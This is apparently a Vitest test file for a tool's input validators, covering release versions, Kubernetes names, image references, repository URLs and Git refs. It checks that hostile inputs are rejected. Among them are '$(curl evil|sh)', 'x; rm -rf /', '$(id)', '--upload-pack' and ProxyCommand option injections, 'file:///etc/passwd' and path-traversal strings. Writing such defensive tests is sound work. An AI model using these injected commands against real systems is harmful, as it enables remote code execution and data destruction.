import { describe, expect, it } from 'vitest';
import { OsvError } from '../../src/errors.js';
import {
  isImageReference,
  isReleaseVersion,
  parseAttempt,
  parseGitRef,
  parseImageReference,
  parseIsoDate,
  parseName,
  parseNamespace,
  parsePhaseIndex,
  parseReleaseVersion,
  parseRepoUrl,
  repoUrlProblems,
} from '../../src/validate/grammar.js';
import { quoteInput } from '../../src/validate/quote.js';

function thrown(fn: () => unknown): OsvError {
  try {
    fn();
  } catch (e) {
    if (e instanceof OsvError) return e;
    throw e;
  }
  throw new Error('expected an OsvError');
}

describe('quoteInput', () => {
  it('escapes everything outside printable ASCII and cuts long values', () => {
    expect(quoteInput('18.0.4')).toBe('"18.0.4"');
    expect(quoteInput('a\u001b[31mb\u007f\u0085\u202ec\n')).toBe('"a\\u001b[31mb\\u007f\\u0085\\u202ec\\n"');
    expect(quoteInput('compute-\u0430')).toBe('"compute-\\u0430"');
    expect(quoteInput('\u{1F600}')).toBe('"\\ud83d\\ude00"');
    expect(quoteInput('x'.repeat(200), 10)).toBe('"xxxxxxxxxx"… (200 characters)');
  });
});

describe('release versions', () => {
  it('accepts the shapes real operators announce', () => {
    for (const v of ['18.0.4', '0.0.1-1784642724', '18.0.10-20250603.1', '18.0.4-1764633600', '18.1', '1.0.0.1234567890.p', '19.0.0-rc1+build.5', 'v1.2.3']) {
      expect(isReleaseVersion(v), v).toBe(true);
      expect(parseReleaseVersion(v)).toBe(v);
    }
  });

  it('refuses path syntax, whitespace, control bytes and odd ends', () => {
    const bad = [
      '', ' 18.0.4', '18.0.4 ', '18.0.4\n', '18.0.4\t', '18.0.4-/../../../outside', '..', '../x', '18.0.4\\x', '.18', '-18', '18.0.4-',
      '18..0', '18.0.4\u0000', '18.0.4\u001b[2J', '18.0.\u0664', 'x'.repeat(65), '18.0.4;rm', '18.0.4$(id)', '18:0',
    ];
    for (const v of bad) expect(isReleaseVersion(v), JSON.stringify(v)).toBe(false);
  });

  it('throws VERSION_INVALID naming the input, escaped', () => {
    const e = thrown(() => parseReleaseVersion('18.0.4-/../x\u001b[2J', 'OPENSTACK_RELEASE_VERSION', { file: 'csv.yaml', path: 'env' }));
    expect(e.code).toBe('VERSION_INVALID');
    expect(e.exitCode).toBe(2);
    expect(e.message).toMatch(/^csv\.yaml: env: OPENSTACK_RELEASE_VERSION "18\.0\.4-\/\.\.\/x\\u001b\[2J" is not valid: /);
    expect(e.message).not.toContain('\u001b');
    expect(e.details).toContain("contains '/' or '\\'");
    const long = thrown(() => parseReleaseVersion('9'.repeat(5000)));
    expect(long.message.length).toBeLessThan(300);
  });
});

describe('Kubernetes names', () => {
  it('applies the rule of each kind', () => {
    expect(parseName('compute-a', 'nodeset', 'nodeset name')).toBe('compute-a');
    expect(parseName('openstack.prod', 'object', 'name')).toBe('openstack.prod');
    expect(parseNamespace('openstack')).toBe('openstack');
    expect(parseName('a'.repeat(63), 'nodeset', 'nodeset name')).toHaveLength(63);
    expect(parseName('a'.repeat(253), 'object', 'name')).toHaveLength(253);
  });

  it('refuses traversal, capitals, underscores, homoglyphs, spaces and over-long names', () => {
    const cases: [string, Parameters<typeof parseName>[1]][] = [
      ['../../../../outside/pwn-ns', 'nodeset'],
      ['Compute_A', 'nodeset'],
      ['compute-\u0430', 'nodeset'],
      ['Bad NS!', 'namespace'],
      ['Bad_NS/../x', 'namespace'],
      ['a.b', 'namespace'],
      ['a'.repeat(64), 'nodeset'],
      ['a'.repeat(240), 'nodeset'],
      ['a'.repeat(254), 'object'],
      ['edpm.x', 'namePrefix'],
      ['', 'object'],
    ];
    for (const [name, kind] of cases) {
      const e = thrown(() => parseName(name, kind, 'the name'));
      expect(e.code, name).toBe('NAME_INVALID');
      expect(e.exitCode).toBe(2);
    }
    const e = thrown(() => parseNamespace('Bad NS!\u0007', 'metadata.namespace', { file: 'cp.yaml' }));
    expect(e.message).toBe(
      'cp.yaml: metadata.namespace "Bad NS!\\u0007" is not valid: contains "B", " ", "N", "S", "!", "\\u0007" (only lowercase letters, digits and \'-\' are allowed); ' +
        'must start and end with a lowercase letter or a digit',
    );
  });
});

describe('image references', () => {
  it('accepts registry/path[:tag][@digest]', () => {
    for (const ref of [
      'quay.io/podified-antelope-centos9/openstack-nova-api:current-podified',
      'registry.example.com:5000/openstack/nova_api:18.0.4-1',
      `quay.io/org/img@sha256:${'a'.repeat(64)}`,
      `quay.io/org/img:v1@sha256:${'0'.repeat(64)}`,
      'localhost/img',
      'nginx',
      'docker.io/library/nginx:1.27',
      '[::1]:5000/img:tag',
      'Registry.Example.com/org/img',
    ]) {
      expect(isImageReference(ref), ref).toBe(true);
    }
  });

  it('refuses shell, URLs, whitespace and broken digests', () => {
    for (const ref of [
      '$(curl evil|sh)',
      'x; rm -rf /',
      '`id`',
      'https://quay.io/org/img:tag',
      'quay.io/org/img:tag ',
      'quay.io/org/img\n:tag',
      'quay.io/Org/img:tag',
      'quay.io/org/img:-tag',
      'quay.io/org/img::tag',
      `quay.io/org/img@sha256:${'a'.repeat(63)}`,
      `quay.io/org/img@sha256:${'A'.repeat(64)}`,
      'quay.io/org//img',
      'quay.io/org/img:' + 't'.repeat(129),
      `quay.io/${'a'.repeat(260)}`,
      '',
      '-quay.io/img',
      'quay.io/org/im\u0430ge',
    ]) {
      expect(isImageReference(ref), JSON.stringify(ref)).toBe(false);
    }
    const e = thrown(() => parseImageReference('$(curl evil|sh)', 'RELATED_IMAGE_NOVA_API_IMAGE_URL_DEFAULT'));
    expect(e.code).toBe('IMAGE_INVALID');
    expect(e.exitCode).toBe(2);
    expect(e.message).toContain('RELATED_IMAGE_NOVA_API_IMAGE_URL_DEFAULT "$(curl evil|sh)" is not valid');
  });
});

describe('repository URLs', () => {
  it('accepts https, http, ssh, git and the scp form', () => {
    for (const u of [
      'https://git.example.com/ops/openstack.git',
      'http://gitea.local:3000/ops/openstack',
      'ssh://git@git.example.com:2222/ops/openstack.git',
      'git://git.example.com/ops.git',
      'git@github.com:ops/openstack.git',
      'github.com:ops/openstack.git',
    ]) {
      expect(repoUrlProblems(u), u).toEqual([]);
      expect(parseRepoUrl(u)).toBe(u);
    }
  });

  it('refuses newlines, credentials, other schemes and option-looking values', () => {
    for (const u of [
      'https://git.example.com/ops.git\nmalicious: true',
      'https://user:pw@git.example.com/ops.git',
      'https://ghp_token@github.com/ops.git',
      'ssh://git:pw@host/ops.git',
      'file:///etc/passwd',
      'javascript://x',
      '--upload-pack=touch /tmp/x',
      '-oProxyCommand=x:y',
      '',
      'https:///nohost',
      'https://host/ops.git?token=x',
      ' https://host/ops.git',
      'https://h\u00e9st/ops.git',
      'x'.repeat(3000),
    ]) {
      const e = thrown(() => parseRepoUrl(u));
      expect(e.code, JSON.stringify(u)).toBe('URL_INVALID');
      expect(e.exitCode).toBe(2);
      expect(e.message).not.toContain('\n');
    }
    expect(thrown(() => parseRepoUrl('https://u:hunter2@h/x.git')).details.join(' ')).toContain('password');
  });
});

describe('phase indexes, dates and attempts', () => {
  it('takes decimal phase numbers, within the plan when known', () => {
    expect(parsePhaseIndex('0')).toBe(0);
    expect(parsePhaseIndex('7', '--phase', 8)).toBe(7);
    expect(parsePhaseIndex(3)).toBe(3);
    for (const bad of ['-1', '1.5', '1e1', '0x2', '', ' 1', '999', 'one']) {
      const e = thrown(() => parsePhaseIndex(bad));
      expect(e.code, bad).toBe('PHASE_INVALID');
      expect(e.exitCode).toBe(2);
    }
    expect(thrown(() => parsePhaseIndex('8', '--phase', 8)).message).toContain('the plan has phases 0 to 7');
  });

  it('takes ISO date-times with a zone and nothing else', () => {
    for (const d of ['2026-11-25T10:00:00Z', '2026-11-25T07:59:00Z', '2026-11-25T10:00Z', '2026-11-25T10:00:00.123+01:00', '2026-11-25 10:00:00-0500']) {
      expect(parseIsoDate(d), d).toBe(d);
    }
    for (const d of ['not-a-date', '', '2026-11-25', '2026-11-25T10:00:00', '2026-02-30T10:00:00Z', '2026-11-25T24:00:00Z', '1960-01-01T00:00:00Z', '2026-11-25T10:00:00+25:00', '@1700000000', 'now']) {
      const e = thrown(() => parseIsoDate(d));
      expect(e.code, d).toBe('DATE_INVALID');
      expect(e.exitCode).toBe(2);
    }
  });

  it('takes attempts from 1 to 99', () => {
    expect(parseAttempt('1')).toBe(1);
    expect(parseAttempt('99')).toBe(99);
    for (const bad of ['0', '100', '-1', '01', '1.0', 'x']) expect(thrown(() => parseAttempt(bad)).code, bad).toBe('USAGE');
  });
});

describe('Git ref names', () => {
  it('accepts branch and tag names', () => {
    for (const r of ['main', 'osv-update/18.0.4-1764633600/01-ovn-controlplane', 'release-18.0', 'v1.2.3', 'HEAD', 'feature/a_b']) expect(parseGitRef(r, '--branch')).toBe(r);
  });

  it('refuses what git check-ref-format refuses, and option-looking names', () => {
    for (const bad of ['', 'main\nkind: Secret', 'a b', 'a..b', 'a@{1}', 'a//b', '-x', '--upload-pack=x', '/a', 'a/', 'a.', '@', '.hidden', 'a/.b', 'a.lock', 'a~1', 'a^', 'a:b', 'a?', 'a*', 'a[', 'a\\b', 'x'.repeat(256), 'ma\u0000in']) {
      const e = thrown(() => parseGitRef(bad, '--revision'));
      expect(e.code, JSON.stringify(bad)).toBe('USAGE');
      expect([...e.message].some((c) => c.charCodeAt(0) < 0x20)).toBe(false);
    }
  });
});
